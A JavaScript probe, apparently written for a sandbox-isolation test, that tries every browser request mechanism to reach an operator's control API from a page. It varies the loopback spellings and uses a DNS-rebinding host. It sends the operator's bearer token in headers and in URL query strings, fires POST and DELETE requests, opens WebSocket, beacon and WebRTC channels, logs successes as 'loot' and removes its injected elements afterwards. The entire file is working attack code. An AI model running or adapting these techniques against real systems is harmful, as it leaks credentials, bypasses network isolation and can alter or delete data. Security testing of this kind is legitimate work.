// Every way a page has of sending a request, to every spelling of the operator's address. That a request was answered is
// loot; that one arrived is seen from outside.
async (insider) => {
  const loot = [];
  let tried = 0;
  const later = (milliseconds) => new Promise((done) => (globalThis.__grindstoneStage?.realTimeout ?? setTimeout)(done, milliseconds));
  const app = new URL(insider.origin).hostname;
  const hosts = ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '127.1', '127.0.0.2', '2130706433', '0x7f000001', '[::ffff:7f00:1]',
    'operator.localhost', app + '.', 'localhost.', '127.0.0.1.nip.io', 'rebound.example'];
  const paths = ['/v1/worlds', '/v1/episodes', '/v1/tasks', '/openapi.json', '/health'];
  const own = [app + ':' + insider.operatorPort, app + ':7071'];
  const origins = hosts.flatMap((host) => [insider.operatorPort, 7071].map((port) => host + ':' + port));

  const asks = [];
  const ask = (address, path, options) => {
    tried++;
    asks.push(fetch('http://' + address + path, options).then(
      (answer) => { loot.push('fetch of ' + address + path + ' was answered: ' + answer.type + ' ' + answer.status); },
      () => {}));
  };
  for (const address of origins) {
    ask(address, paths[0], { headers: { Authorization: 'Bearer ' + insider.operatorToken } });
    ask(address, paths[1], { mode: 'no-cors', credentials: 'omit' });
    ask(address, paths[2], { mode: 'no-cors', method: 'POST', body: '{"task":"x"}' });
    ask(address, paths[3], { mode: 'no-cors', keepalive: true });
  }
  // The app's own name with the operator's port: a connection that ends at the pages, whatever the port says.
  for (const address of own) {
    for (const path of paths) {
      tried++;
      asks.push(fetch('http://' + address + path, { headers: { Authorization: 'Bearer ' + insider.operatorToken } }).then(
        (answer) => { if (answer.ok) loot.push(address + path + ' answered ' + answer.status); }, () => {}));
    }
  }
  await Promise.race([Promise.all(asks), later(3000)]);

  const tags = { img: 'src', script: 'src', iframe: 'src', embed: 'src', object: 'data', video: 'src', link: 'href' };
  for (const address of origins.slice(0, 8)) {
    const url = 'http://' + address + '/v1/worlds?token=' + insider.operatorToken;
    for (const [tag, attribute] of Object.entries(tags)) {
      tried++;
      const element = document.createElement(tag);
      if (tag === 'link') element.rel = 'stylesheet';
      element[attribute] = url;
      (document.body ?? document.documentElement).append(element);
    }
    tried += 4;
    try { new WebSocket('ws://' + address + '/-/live').onopen = () => loot.push('a socket to ' + address + ' opened'); } catch { /* refused */ }
    try { new EventSource(url).onopen = () => loot.push('events of ' + address); } catch { /* refused */ }
    try { navigator.sendBeacon(url, '{}'); } catch { /* refused */ }
    const request = new XMLHttpRequest();
    request.onload = () => loot.push('a request to ' + address + ' was answered');
    try { request.open('DELETE', url); request.send(); } catch { /* refused */ }
  }
  await later(150);
  document.querySelectorAll(Object.keys(tags).join()).forEach((element) => {
    if ((element.src ?? element.data ?? element.href ?? '').includes(insider.operatorToken)) element.remove();
  });

  if (globalThis.RTCPeerConnection) {
    tried++;
    const connection = new RTCPeerConnection({ iceServers: [
      { urls: 'turn:127.0.0.1:' + insider.operatorPort + '?transport=tcp', username: 'a', credential: 'b' },
      { urls: 'stun:127.0.0.1:' + insider.operatorPort }] });
    connection.createDataChannel('out');
    await connection.setLocalDescription(await connection.createOffer());
    await later(300);
    connection.close();
  }
  return JSON.stringify({ tried, loot });
}
